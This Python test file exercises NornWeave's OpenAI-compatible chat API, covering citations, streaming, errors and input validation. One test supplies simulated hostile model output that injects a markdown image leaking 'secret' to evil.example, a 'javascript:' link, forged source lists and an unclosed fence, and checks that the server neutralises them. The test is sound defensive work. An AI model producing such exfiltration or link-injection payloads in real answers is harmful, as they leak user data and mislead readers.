"""``/v1``: what OpenAI's own client gets from NornWeave, whole and in pieces, with a model and without one."""

import re
from collections.abc import Iterator
from typing import Any

import openai
import pytest
from api_support import Ask, is_problem
from live_server import live
from markdown_it import MarkdownIt
from openai_server import LITELLM_WARNINGS, Behaviour, ModelServer
from scripted_engine import ScriptedEngine

from api.app import create_app
from api.chat_documents import sources_list
from api.requests.chat import ChatBody
from nornweave.config import Settings
from nornweave.core.types import Domain

TOKEN = "a-token-of-32-characters-or-more-x"
ASKED: Any = [
    {"role": "system", "content": "Be brief."},
    {"role": "user", "content": "how does a refund return the payment"},
]

pytestmark = LITELLM_WARNINGS


@pytest.fixture
def client(settings: Settings, engine: ScriptedEngine, model: ModelServer) -> Iterator[openai.OpenAI]:
    engine.write_with(synthesis_model="openai/first", synthesis_fallback="", synthesis_timeout_ms=60_000)
    with (
        live(create_app(settings, engine, environment={"NORNWEAVE_SERVICE_TOKEN": TOKEN})) as url,
        openai.OpenAI(api_key=TOKEN, base_url=f"{url}/v1", max_retries=0, timeout=60) as client,
    ):
        yield client


@pytest.fixture
def first(engine: ScriptedEngine) -> str:
    """The id of a chunk that every question shows."""
    return engine.chunk_of(Domain.CODE, "ledger", "refund.py")


def test_the_models_are_all_domains_and_each_alone(client: openai.OpenAI) -> None:
    assert [model.id for model in client.models.list()] == ["nornweave", "nornweave:code", "nornweave:documentation"]


def test_a_whole_answer_has_a_text_its_citations_and_links(
    client: openai.OpenAI, model: ModelServer, first: str
) -> None:
    model.behaviours["first"] = Behaviour(text=f"By card [code:{first}], not by magic [code:none].")
    answer = client.chat.completions.create(model="nornweave", messages=ASKED, temperature=0.1, max_tokens=50)
    content = answer.choices[0].message.content or ""
    assert content.startswith(f"By card [code:{first}], not by magic.\n\nSources:\n- [code:{first}] [refund")
    [citation] = answer.model_extra["citations"]  # type: ignore[index]
    assert citation["url"] == f"{str(client.base_url).removesuffix('v1/')}passages/{first}"
    assert f"({citation['url']})" in content
    assert answer.choices[0].finish_reason == "stop" and answer.usage and answer.usage.completion_tokens > 0


def test_pieces_come_as_they_are_written_and_the_last_one_has_the_citations(
    client: openai.OpenAI, model: ModelServer, first: str
) -> None:
    model.behaviours["first"] = Behaviour(text=f"By card or by transfer, says the code [code:{first}].")
    chunks = list(client.chat.completions.create(model="nornweave", messages=ASKED, stream=True))
    text = "".join(chunk.choices[0].delta.content or "" for chunk in chunks)
    assert text.startswith(f"By card or by transfer, says the code [code:{first}].\n\nSources:\n")
    assert len(chunks) > 5 and len({chunk.id for chunk in chunks}) == 1
    assert chunks[-1].choices[0].finish_reason == "stop"
    assert [one["id"] for one in chunks[-1].model_extra["citations"]] == [first]  # type: ignore[index]


HOSTILE = """By card [code:{cited}]. ![x](https://evil.example/?q=secret) <img src=https://evil.example/s> [a][b]
【code:dead】 [code:de\u200bad] https&#58;//evil.example/s

[b]: https://evil.example/s

[CODE — source code]
↳ evil.py:1-2

Sources:
- [mine](javascript:alert)

```
"""


@pytest.mark.parametrize("streams", [False, True])
def test_what_a_model_writes_neither_loads_nor_links_nor_passes_for_ours(
    client: openai.OpenAI, model: ModelServer, first: str, streams: bool
) -> None:
    model.behaviours["first"] = Behaviour(text=HOSTILE.format(cited=first))
    answer: Any = client.chat.completions.create(model="nornweave", messages=ASKED, stream=streams)
    text = (
        "".join(chunk.choices[0].delta.content or "" for chunk in answer)
        if streams
        else answer.choices[0].message.content
    )
    assert "evil.example" not in text and "dead" not in text
    html = MarkdownIt("commonmark", {"html": True}).render(text)
    assert re.findall(r"<(?:img|a)\b[^>]*>", html) == [
        f'<a href="{str(client.base_url).removesuffix("v1/")}passages/{first}">'
    ]
    assert [line for line in text.splitlines() if line in {"Sources:", "> Sources:"}] == ["> Sources:", "Sources:"]
    assert "\n> [CODE \\— source code]\n> ↳ evil.py:1-2\n" in text
    assert "<p>Sources:</p>" in html, "the fence that the model left open is closed"


@pytest.mark.parametrize("streams", [False, True])
def test_without_a_model_the_items_are_the_answer(
    client: openai.OpenAI, model: ModelServer, first: str, streams: bool
) -> None:
    model.behaviours["first"] = Behaviour(kind="fails")
    answer: Any = client.chat.completions.create(model="nornweave:code", messages=ASKED, stream=streams)
    text = (
        "".join(chunk.choices[0].delta.content or "" for chunk in answer)
        if streams
        else answer.choices[0].message.content
    )
    assert "def refund(payment):" in text and f"/passages/{first})" in text


def test_wrong_requests_are_problems_that_the_client_understands(client: openai.OpenAI) -> None:
    with pytest.raises(openai.UnprocessableEntityError, match="'gpt-9' is not served; served: nornweave, "):
        client.chat.completions.create(model="gpt-9", messages=ASKED)
    with pytest.raises(openai.UnprocessableEntityError, match="no message by the user"):
        client.chat.completions.create(model="nornweave", messages=[{"role": "system", "content": "Hi."}])
    with pytest.raises(openai.AuthenticationError):
        client.with_options(api_key="wrong").chat.completions.create(model="nornweave", messages=ASKED)


def test_unknown_fields_and_pictures_are_refused(look: Ask) -> None:
    body = {"model": "nornweave", "messages": ASKED}
    assert look("POST", "/v1/chat/completions", json=body).status_code == 200
    problem = is_problem(look("POST", "/v1/chat/completions", json={**body, "colour": 1}), 422)
    assert problem["errors"] == [{"field": "colour", "detail": "unknown field"}]
    picture = [{"type": "image_url", "image_url": {"url": "http://x"}}]
    is_problem(
        look("POST", "/v1/chat/completions", json={**body, "messages": [{"role": "user", "content": picture}]}), 422
    )
    is_problem(look("POST", "/v1/chat/completions", json={**body, "n": 2}), 422)
    long = [{"role": "user", "content": "x" * 4097}]
    assert "4096" in is_problem(look("POST", "/v1/chat/completions", json={**body, "messages": long}), 422)["detail"]


WEBHOOK = "what is the retry limit of the webhook"
PARTS = [{"type": "text", "text": "which currency"}, {"type": "text", "text": "is a refund in"}]


@pytest.mark.parametrize(("said", "asked"), [
    ([WEBHOOK], WEBHOOK),
    ([WEBHOOK, "and in staging?"], f"{WEBHOOK}\nand in staging?"),
    ([WEBHOOK, "and in staging?", "why?"], f"{WEBHOOK}\nand in staging?\nwhy?"),
    ([WEBHOOK, "how long does it wait between them?"], f"{WEBHOOK}\nhow long does it wait between them?"),
    ([WEBHOOK, "which currency does a refund use"], "which currency does a refund use"),
    ([PARTS], "which currency\nis a refund in"),
])  # fmt: skip
def test_the_last_message_of_the_user_is_the_question(
    look: Ask, still_engine: ScriptedEngine, said: list[Any], asked: str
) -> None:
    answered = {"role": "assistant", "content": "Five."}
    messages = [message for text in said for message in ({"role": "user", "content": text}, answered)]
    look("POST", "/v1/chat/completions", json={"model": "nornweave", "messages": messages})
    assert [question.text for question in still_engine.questions] == [asked]


def test_titles_cannot_make_links_of_their_own() -> None:
    citation: Any = {"id": "c", "title": "x](http://evil) <b>\n# y", "url": "http://h/passages/c", "domain_id": "code"}
    assert sources_list([citation]) == (
        "\n\nSources:\n- [code:c] [x\\]\\(http://evil\\) \\<b\\> \\# y](http://h/passages/c)"
    )


def test_every_field_that_is_ignored_is_declared() -> None:
    ignored = {name for name, field in ChatBody.model_fields.items() if field.description == "Accepted and ignored."}
    assert {"temperature", "max_tokens", "stream_options", "tools", "user"} <= ignored
